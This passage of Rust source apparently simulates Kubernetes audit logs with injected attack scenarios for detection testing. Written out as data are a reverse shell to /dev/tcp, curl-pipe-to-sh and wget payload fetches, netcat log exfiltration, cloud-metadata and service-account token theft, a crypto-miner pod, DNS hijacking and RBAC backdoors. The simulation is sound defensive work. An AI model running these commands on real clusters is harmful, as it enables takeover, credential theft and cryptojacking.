            forbid(&mut r);
        }
        sim.submit(r);
    }
    let tt = step(sim, &mut t, 20 * SEC);
    let body = json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "kworker-update", "namespace": "default"},
        "spec": {"containers": [{"name": "kworker", "image": "docker.io/xmrig/xmrig:6.21.0", "args": ["-o", "pool.supportxmr.com:443", "--tls"], "resources": {"limits": {"cpu": "2"}}}]}});
    let mut r = sim.req(
        tt,
        &anon,
        "create",
        "pods",
        "default",
        "kworker-update",
        "",
        "",
    );
    r.request_object = Some(body.clone());
    r.response_object = Some(body);
    r.annotations.insert(
        "pod-security.kubernetes.io/enforce-policy",
        "baseline:latest".into(),
    );
    sim.submit(r);
}

fn token_request(sim: &mut Sim, c: &Cast, t0: i64) {
    let mut r = sim.req(
        t0,
        &c.ci,
        "create",
        "serviceaccounts",
        "argocd",
        "argocd-application-controller",
        "token",
        "",
    );
    r.request_object = Some(
        json!({"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "spec": {"audiences": null, "expirationSeconds": 86400, "boundObjectRef": null}}),
    );
    sim.submit(r);
    let mut t = t0;
    let tt = step(sim, &mut t, 15 * SEC);
    let argo = Actor {
        id: Rc::new(sa_identity(&mut sim.rng, "argocd", "argocd-application-controller", "7a0e2d4c-1b3f-4e5a-8c9d-0f1e2d3c4b5a", None)),
        ip: ATTACKER_IP.into(),
        ua: Rc::from(ATTACKER_KUBECTL),
        reason: Rc::from("RBAC: allowed by ClusterRoleBinding \"argocd-application-controller\" of ClusterRole \"argocd-application-controller\" to ServiceAccount \"argocd-application-controller/argocd\""),
    };
    let r = sim.req(tt, &argo, "list", "secrets", "", "", "", "?limit=500");
    sim.submit(r);
}

/// PEM CSR with subject `O=system:masters, CN=kube-admin-backup`, base64-encoded as in
/// `spec.request` (generated once with openssl; only the bytes matter).
const MASTERS_CSR_B64: &str = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIeE1JR1hBZ0VBTURVeEZ6QVZCZ05WQkFvTURuTjVjM1JsYlRwdFlYTjBaWEp6TVJvd0dBWURWUVFEREJGcgpkV0psTFdGa2JXbHVMV0poWTJ0MWNEQlpNQk1HQnlxR1NNNDlBZ0VHQ0NxR1NNNDlBd0VIQTBJQUJLbE9kaHd0ClVmNGZXTC9FRnFaWEZ1NzVoUkZnMWpTVjN1N1ZQSWJjSmk2QWpPWnAveVZyTDhXVStGL3ZYVjA1K20zNi9TeUMKbE44VURkOWVNajdaRDVDZ0FEQUtCZ2dxaGtqT1BRUURBZ05KQURCR0FpRUE2cUM1d1Q4d2RsSGVOU2FNa2NoRAphTGJVVjYxcFd3ZFVZa3d2RGtYcHdENENJUUNsUE83aXlQRStSTFdVbzgyMlZUQnE1eVZrQ01TN000OEhSVkRSCnBsOW1oUT09Ci0tLS0tRU5EIENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo=";

fn csr_approval(sim: &mut Sim, c: &Cast, t0: i64) {
    let mut t = t0;
    let a = Actor {
        ip: "203.0.113.77".into(),
        ..c.admin.clone()
    };
    let name = "kube-admin-backup";
    let spec = json!({"request": MASTERS_CSR_B64, "signerName": "kubernetes.io/kube-apiserver-client", "expirationSeconds": 31536000, "usages": ["client auth"]});
    let body = json!({"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": {"name": name}, "spec": spec});
    let mut r = sim.req(
        t,
        &a,
        "create",
        "certificatesigningrequests",
        "",
        name,
        "",
        "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
    );
    r.request_object = Some(body.clone());
    r.response_object = Some(body.clone());
    sim.submit(r);
    let tt = step(sim, &mut t, 40 * SEC);
    let mut approved = body.clone();
    approved["status"] = json!({"conditions": [{"type": "Approved", "status": "True", "reason": "KubectlApprove", "message": "This CSR was approved by kubectl certificate approve.", "lastUpdateTime": bodies::ts(tt), "lastTransitionTime": null}]});
    let mut r = sim.req(
        tt,
        &a,
        "update",
        "certificatesigningrequests",
        "",
        name,
        "approval",
        "",
    );
    r.request_object = Some(approved.clone());
    r.response_object = Some(approved);
    sim.submit(r);
    let tt = step(sim, &mut t, 20 * SEC);
    let g = sim.req(
        tt,
        &a,
        "get",
        "certificatesigningrequests",
        "",
        name,
        "",
        "",
    );
    sim.submit(g);
}

fn admission_webhook(sim: &mut Sim, c: &Cast, t0: i64) {
    let body = json!({"kind": "MutatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1",
        "metadata": {"name": "pod-policy.cluster-tools.io"},
        "webhooks": [{"name": "pod-policy.cluster-tools.io", "admissionReviewVersions": ["v1"], "sideEffects": "None", "failurePolicy": "Ignore", "timeoutSeconds": 5,
            "clientConfig": {"url": "https://203.0.113.66:8443/mutate"},
            "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"], "resources": ["pods", "secrets"], "scope": "*"}]}]});
    let mut r = sim.req(
        t0,
        &c.ci,
        "create",
        "mutatingwebhookconfigurations",
        "",
        "pod-policy.cluster-tools.io",
        "",
        "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
    );
    r.request_object = Some(body.clone());
    r.response_object = Some(body);
    sim.submit(r);
}

fn events_deletion(sim: &mut Sim, c: &Cast, t0: i64) {
    let mut t = t0;
    let r = sim.req(
        t,
        &c.backdoor,
        "deletecollection",
        "events",
        "kube-system",
        "",
        "",
        "",
    );
    sim.submit(r);
    let tt = step(sim, &mut t, 4 * SEC);
    let name = format!("{DEBUGGER_POD}.180a3c2f9d1e4b7a");
    let r = sim.req(
        tt,
        &c.backdoor,
        "delete",
        "events",
        "kube-system",
        &name,
        "",
        "",
    );
    sim.submit(r);
}

fn nodeport(sim: &mut Sim, c: &Cast, t0: i64) {
    let body = json!({"kind": "Service", "apiVersion": "v1", "metadata": {"name": "node-debugger", "namespace": "kube-system"},
        "spec": {"type": "NodePort", "selector": {"app": "node-debugger"}, "ports": [{"port": 22, "targetPort": 22, "nodePort": 31337, "protocol": "TCP"}]}});
    let mut r = sim.req(
        t0,
        &c.backdoor,
        "create",
        "services",
        "kube-system",
        "node-debugger",
        "",
        "?fieldManager=kubectl-expose",
    );
    r.request_object = Some(body.clone());
    r.response_object = Some(body);
    sim.submit(r);
}

fn human_daemonset(sim: &mut Sim, c: &Cast, t0: i64) {
    let body = json!({"kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": {"name": "log-forwarder", "namespace": "kube-system"},
        "spec": {"selector": {"matchLabels": {"app": "log-forwarder"}}, "template": {"metadata": {"labels": {"app": "log-forwarder"}},
            "spec": {"containers": [{"name": "forwarder", "image": "docker.io/library/busybox:1.36", "command": ["sh", "-c", "tail -F /var/log/containers/*.log | nc 203.0.113.66 5140"],
                "volumeMounts": [{"mountPath": "/var/log", "name": "varlog", "readOnly": true}]}],
                "tolerations": [{"operator": "Exists"}],
                "volumes": [{"name": "varlog", "hostPath": {"path": "/var/log"}}]}}}});
    let mut r = sim.req(
        t0,
        &c.dev,
        "create",
        "daemonsets",
        "kube-system",
        "log-forwarder",
        "",
        "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
    );
    r.request_object = Some(body.clone());
    r.response_object = Some(body);
    sim.submit(r);
}

fn impersonation(sim: &mut Sim, c: &Cast, t0: i64) {
    let mut t = t0;
    for (verb, name) in [("list", ""), ("get", "aws-load-balancer-webhook-tls")] {
        let mut r = sim.req(t, &c.admin, verb, "secrets", "kube-system", name, "", "");
        r.impersonated = Some(Identity {
            username: "system:admin".into(),
            groups: vec!["system:masters".into(), "system:authenticated".into()],
            ..Identity::default()
        });
        r.annotations
            .insert("authorization.k8s.io/reason", String::new());
        sim.submit(r);
        step(sim, &mut t, 6 * SEC);
    }
}

fn offensive_tool(sim: &mut Sim, c: &Cast, t0: i64) {
    let mut t = t0;
    let a = Actor {
        ua: Rc::from("trufflehog/3.82.6"),
        ..c.ci.clone()
    };
    for ns in ["ci", "argocd", "default"] {
        let tt = step(sim, &mut t, 2 * SEC);
        let r = sim.req(tt, &a, "list", "secrets", ns, "", "", "?limit=500");
        sim.submit(r);
    }
    let rakkess = Actor {
        ua: Rc::from("access_matrix/v0.5.0 (linux/amd64) kubernetes/$Format"),
        ..c.ci.clone()
    };
    for res in [
        "selfsubjectaccessreviews",
        "selfsubjectaccessreviews",
        "selfsubjectaccessreviews",
    ] {
        let tt = step(sim, &mut t, SEC);
        let mut r = sim.req(tt, &rakkess, "create", res, "", "", "", "");
        r.request_object = Some(
            json!({"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"resourceAttributes": {"verb": "list", "resource": "secrets"}}}),
        );
        sim.submit(r);
    }
}

fn ephemeral(sim: &mut Sim, c: &Cast, t0: i64) {
    let w = &sim.cluster.workloads[sim.cluster.first_app];
    let (ns, pod, uid) = (w.ns.clone(), w.pods[0].name.clone(), w.pods[0].uid.clone());
    let target = w.name.rsplit('-').next().unwrap_or("app").to_string();
    let patch = json!({"spec": {"ephemeralContainers": [{"name": "debugger-8d2kq", "image": "docker.io/nicolaka/netshoot:v0.13", "stdin": true, "tty": true, "targetContainerName": target, "terminationMessagePolicy": "File", "resources": {}}]}, "metadata": {"uid": uid}});
    let mut r = sim.req(
        t0,
        &c.ci,
        "patch",
        "pods",
        &ns,
        &pod,
        "ephemeralcontainers",
        "",
    );
    r.request_object = Some(patch.clone());
    r.response_object = Some(patch);
    sim.submit(r);
    let mut t = t0;
    let tt = step(sim, &mut t, 5 * SEC);
    let mut a = sim.req(
        tt,
        &c.ci,
        "create",
        "pods",
        &ns,
        &pod,
        "attach",
        "?container=debugger-8d2kq&stdin=true&stdout=true&tty=true",
    );
    a.status.code = 101;
    a.long_running = true;
    a.latency = 90 * SEC;
    sim.submit(a);
}

fn node_proxy(sim: &mut Sim, c: &Cast, t0: i64) {
    let mut t = t0;
    let node = sim.cluster.nodes[0].name.clone();
    let mut r = sim.req(t, &c.backdoor, "get", "nodes", "", &node, "proxy", "");
    r.uri = format!("/api/v1/nodes/{node}/proxy/pods");
    sim.submit(r);
    let tt = step(sim, &mut t, 10 * SEC);
    let w = &sim.cluster.workloads[sim.cluster.first_app];
    let (ns, pod) = (w.ns.clone(), w.pods[0].name.clone());
    let mut r = sim.req(
        tt,
        &c.backdoor,
        "create",
        "nodes",
        "",
        &node,
        "proxy",
        "?cmd=cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
    );
    r.uri = format!("/api/v1/nodes/{node}/proxy/run/{ns}/{pod}/api?cmd=cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken");
    sim.submit(r);
}

fn rbac_then_workload(sim: &mut Sim, c: &Cast, t0: i64) {
    let mut t = t0;
    let role = json!({"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "ci-ops"},
        "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]});
    let mut r = sim.req(
        t,
        &c.ci,
        "create",
        "clusterroles",
        "",
        "ci-ops",
        "",
        "?fieldManager=kubectl-create&fieldValidation=Strict",
    );
    r.request_object = Some(role.clone());
    r.response_object = Some(role);
    sim.submit(r);
    let tt = step(sim, &mut t, 90 * SEC);
    let wi = sim.cluster.first_app;
    let rv = sim.next_rv();
    let w = &sim.cluster.workloads[wi];
    let (ns, name) = (w.ns.clone(), w.name.clone());
    let patch = json!({"spec": {"template": {"spec": {"containers": [{"name": "telemetry-agent", "image": "ghcr.io/cloud-telemetry/agent:0.4.2", "args": ["--endpoint", "https://203.0.113.66/ingest"], "env": [{"name": "TOKEN_PATH", "value": "/var/run/secrets/kubernetes.io/serviceaccount/token"}]}]}}}});
    let mut resp = bodies::deployment(w, &rv, &w.image);
    if let Some(cs) = resp["spec"]["template"]["spec"]["containers"].as_array_mut() {
        cs.push(patch["spec"]["template"]["spec"]["containers"][0].clone());
    }
    kubectl_patch(
        sim,
        tt,
        &c.ci,
        ("deployments", &ns, &name),
        patch,
        Some(resp),
    );
}

/// `kubectl patch` of `(resource, namespace, name)` by `actor`: the patch is the request
/// body and, when given, `resp` the object the API server returned.
fn kubectl_patch(
    sim: &mut Sim,
    t: i64,
    actor: &Actor,
    (resource, ns, name): (&str, &str, &str),
    patch: serde_json::Value,
    resp: Option<serde_json::Value>,
) {
    let mut r = sim.req(
        t,
        actor,
        "patch",
        resource,
        ns,
        name,
        "",
        "?fieldManager=kubectl-patch",
    );
    r.request_object = Some(patch);
    r.response_object = resp;
    sim.submit(r);
}

fn coredns(sim: &mut Sim, c: &Cast, t0: i64) {
    let body = json!({"data": {"Corefile": ".:53 {\n    errors\n    health\n    rewrite name login.example.com login-example.attacker.example.net\n    kubernetes cluster.local in-addr.arpa ip6.arpa {\n      pods insecure\n      fallthrough in-addr.arpa ip6.arpa\n    }\n    forward . /etc/resolv.conf\n    cache 30\n    loop\n    reload\n}\n"}});
    kubectl_patch(
        sim,
        t0,
        &c.backdoor,
        ("configmaps", "kube-system", "coredns"),
        body,
        None,
    );
}

fn cronjob(sim: &mut Sim, c: &Cast, t0: i64) {
    let body = json!({"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": "kube-cache-gc", "namespace": "kube-system"},
        "spec": {"schedule": "*/10 * * * *", "jobTemplate": {"spec": {"template": {"spec": {"restartPolicy": "OnFailure", "hostNetwork": true,
            "containers": [{"name": "gc", "image": "docker.io/curlimages/curl:8.10.1", "command": ["sh", "-c", "curl -fsSL https://203.0.113.66/k.sh | sh"]}]}}}}}});
    let mut r = sim.req(
        t0,
        &c.backdoor,
        "create",
        "cronjobs",
        "kube-system",
        "kube-cache-gc",
        "",
        "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
    );
    r.request_object = Some(body.clone());
    r.response_object = Some(body);
    sim.submit(r);
}

fn exec_revshell(sim: &mut Sim, c: &Cast, t0: i64) {
    let mut t = t0;
    let w = &sim.cluster.workloads[sim.cluster.first_app];
    let (ns, pod, cont) = (
        w.ns.clone(),
        w.pods[0].name.clone(),
        w.name.rsplit('-').next().unwrap_or("app").to_string(),
    );
    let a = c.ci.clone();
    exec(
        sim,
        &a,
        t,
        "create",
        &ns,
        &pod,
        &cont,
        &[
            "sh",
            "-c",
            "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        ],
        2,
    );
    let tt = step(sim, &mut t, 15 * SEC);
    exec(
        sim,
        &a,
        tt,
        "create",
        &ns,
        &pod,
        &cont,
        &[
            "sh",
            "-c",
            "wget -qO /tmp/.x https://203.0.113.66/x && chmod +x /tmp/.x",
        ],
        3,
    );
    let tt = step(sim, &mut t, 15 * SEC);
    exec(
        sim,
        &a,
        tt,
        "create",
        &ns,
        &pod,
        &cont,
        &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"],
        300,
    );
}

fn app(sim: &Sim, k: usize) -> (String, String, String, String) {
    let apps = sim.cluster.apps();
    let w = &apps[k % apps.len()];
    let c = w.name.rsplit('-').next().unwrap_or("app").to_string();
    (w.ns.clone(), w.name.clone(), w.pods[0].name.clone(), c)
}

fn kubectl_cp(sim: &mut Sim, c: &Cast, t0: i64) {
    let (ns, _, pod, cont) = app(sim, 1);
    exec(
        sim,
        &c.ci,
        t0,
        "create",
        &ns,
        &pod,
        &cont,
        &["tar", "cf", "-", "/var/lib/data"],
        25,
    );
}

fn port_forward(sim: &mut Sim, c: &Cast, t0: i64) {
    let (ns, _, pod, cont) = app(sim, 2);
    let mut r = sim.req(
        t0,
        &c.ci,
        "create",
        "pods",
        &ns,
        &pod,
        "portforward",
        "?ports=5432",
    );
    r.status.code = 101;
    r.long_running = true;
    r.latency = 420 * SEC;
    sim.submit(r);
    let q = format!("?container={cont}&stderr=true&stdin=true&stdout=true&tty=true");
    let mut a = sim.req(
        t0 + 30 * SEC,
        &c.ci,
        "create",
        "pods",
        &ns,
        &pod,
        "attach",
        &q,
    );
    a.status.code = 101;
    a.long_running = true;
    a.latency = 60 * SEC;
    sim.submit(a);
}

fn deployment_deletion(sim: &mut Sim, c: &Cast, t0: i64) {
    let mut t = t0;
    let wi = sim.cluster.first_app + (2 % sim.cluster.apps().len());
    let w = &sim.cluster.workloads[wi];
    let (ns, name, secrets) = (w.ns.clone(), w.name.clone(), w.secrets.clone());
    let mut r = sim.req(t, &c.backdoor, "delete", "deployments", &ns, &name, "", "");
    r.request_object = Some(
        json!({"kind": "DeleteOptions", "apiVersion": "v1", "propagationPolicy": "Foreground"}),
    );
    r.response_object = Some(bodies::status_success("deployments", &name, "apps"));
    sim.submit(r);
    for s in secrets {
        let tt = step(sim, &mut t, 3 * SEC);
        let r = sim.req(tt, &c.backdoor, "delete", "secrets", &ns, &s, "", "");
        sim.submit(r);
    }
}

fn aws_auth(sim: &mut Sim, c: &Cast, t0: i64) {
    let patch = json!({"data": {"mapRoles": "- rolearn: arn:aws:iam::123456789012:role/eks-node-role\n  username: system:node:{{EC2PrivateDNSName}}\n  groups:\n    - system:bootstrappers\n    - system:nodes\n- rolearn: arn:aws:iam::444455556666:role/ops-break-glass\n  username: ops-admin\n  groups:\n    - system:masters\n"}});
    kubectl_patch(
        sim,
        t0,
        &c.backdoor,
        ("configmaps", "kube-system", "aws-auth"),
        patch,
        None,
    );
}

fn secret_denials(sim: &mut Sim, c: &Cast, t0: i64) {
    let mut t = t0;
    let a = Actor {
        ua: Rc::from("python-requests/2.31.0"),
        ..c.ci.clone()
    };
    for k in 0..25 {
        let tt = step(sim, &mut t, 8 * SEC);
        let name = format!(
            "{}-{}",
            ["db", "api", "stripe", "vault", "backup"][k % 5],
            ["credentials", "token", "keys", "password", "admin"][k / 5]
        );
        let mut r = sim.req(tt, &a, "get", "secrets", "kube-system", &name, "", "");
        forbid(&mut r);
        sim.submit(r);
    }
}

fn default_sa_admin(sim: &mut Sim, c: &Cast, t0: i64) {
    let (ns, _, _, _) = app(sim, 3);
    let body = json!({"kind": "RoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "default-admin", "namespace": ns},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": ns}]});
    let mut r = sim.req(
        t0,
        &c.ci,
        "create",
        "rolebindings",
        &ns,
        "default-admin",
        "",
        "?fieldManager=kubectl-create&fieldValidation=Strict",
    );
    r.request_object = Some(body.clone());
    r.response_object = Some(body);
    sim.submit(r);
}

fn exposed_dashboard(sim: &mut Sim, c: &Cast, t0: i64) {
    let body = json!({"kind": "Service", "apiVersion": "v1", "metadata": {"name": "kubernetes-dashboard-lb", "namespace": "kubernetes-dashboard", "labels": {"k8s-app": "kubernetes-dashboard"}},
        "spec": {"type": "LoadBalancer", "selector": {"k8s-app": "kubernetes-dashboard"}, "ports": [{"port": 443, "targetPort": 8443, "protocol": "TCP"}]}});
    let mut r = sim.req(
        t0,
        &c.dev,
        "create",
        "services",
        "kubernetes-dashboard",
        "kubernetes-dashboard-lb",
        "",
        "?fieldManager=kubectl-expose",
    );
    r.request_object = Some(body.clone());
    r.response_object = Some(body);
    sim.submit(r);
}

fn cm_credentials(sim: &mut Sim, c: &Cast, t0: i64) {
    let (ns, name, _, _) = app(sim, 4);
    let cm = format!("{name}-env");
    let body = json!({"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": cm, "namespace": ns},
        "data": {"AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE", "aws_secret_access_key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "DB_PASSWORD": "hunter2-prod", "LOG_LEVEL": "debug"}});
    let mut r = sim.req(
        t0,
        &c.dev,
        "create",
        "configmaps",
        &ns,
        &cm,
        "",
        "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
    );
    r.request_object = Some(body);
    sim.submit(r);
}

fn system_role(sim: &mut Sim, c: &Cast, t0: i64) {
    let patch = json!({"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]});
    let resp = json!({"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "system:aggregate-to-edit", "labels": {"kubernetes.io/bootstrapping": "rbac-defaults", "rbac.authorization.k8s.io/aggregate-to-edit": "true"}},
        "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]});
    kubectl_patch(
        sim,
        t0,
        &c.backdoor,
        ("clusterroles", "", "system:aggregate-to-edit"),
        patch,
        Some(resp),
    );
}

fn namespace_netpol(sim: &mut Sim, c: &Cast, t0: i64) {
    let body = json!({"kind": "Namespace", "apiVersion": "v1", "metadata": {"name": "kube-cache"}});
    let mut r = sim.req(
        t0,
        &c.backdoor,
        "create",
        "namespaces",
        "",
        "kube-cache",
        "",
        "?fieldManager=kubectl-create&fieldValidation=Strict",
    );
    r.request_object = Some(body.clone());
    r.response_object = Some(body);
    sim.submit(r);
    let (ns, _, _, _) = app(sim, 0);
    let mut t = t0;
    let tt = step(sim, &mut t, 30 * SEC);
    let mut d = sim.req(
        tt,
        &c.backdoor,
        "delete",
        "networkpolicies",
        &ns,
        "default-deny-ingress",
        "",
        "",
    );
    d.response_object = Some(bodies::status_success(
        "networkpolicies",
        "default-deny-ingress",
        "networking.k8s.io",
    ));
    sim.submit(d);
}

impl Sim {
    /// A failed authentication: the API server logs only a ResponseStarted event.
    pub(crate) fn submit_auth_failure(&mut self, mut r: Req) {
        r.level = "Metadata";
        r.scenario |= self.in_scenario;
        self.push_only_started(r);
    }
}
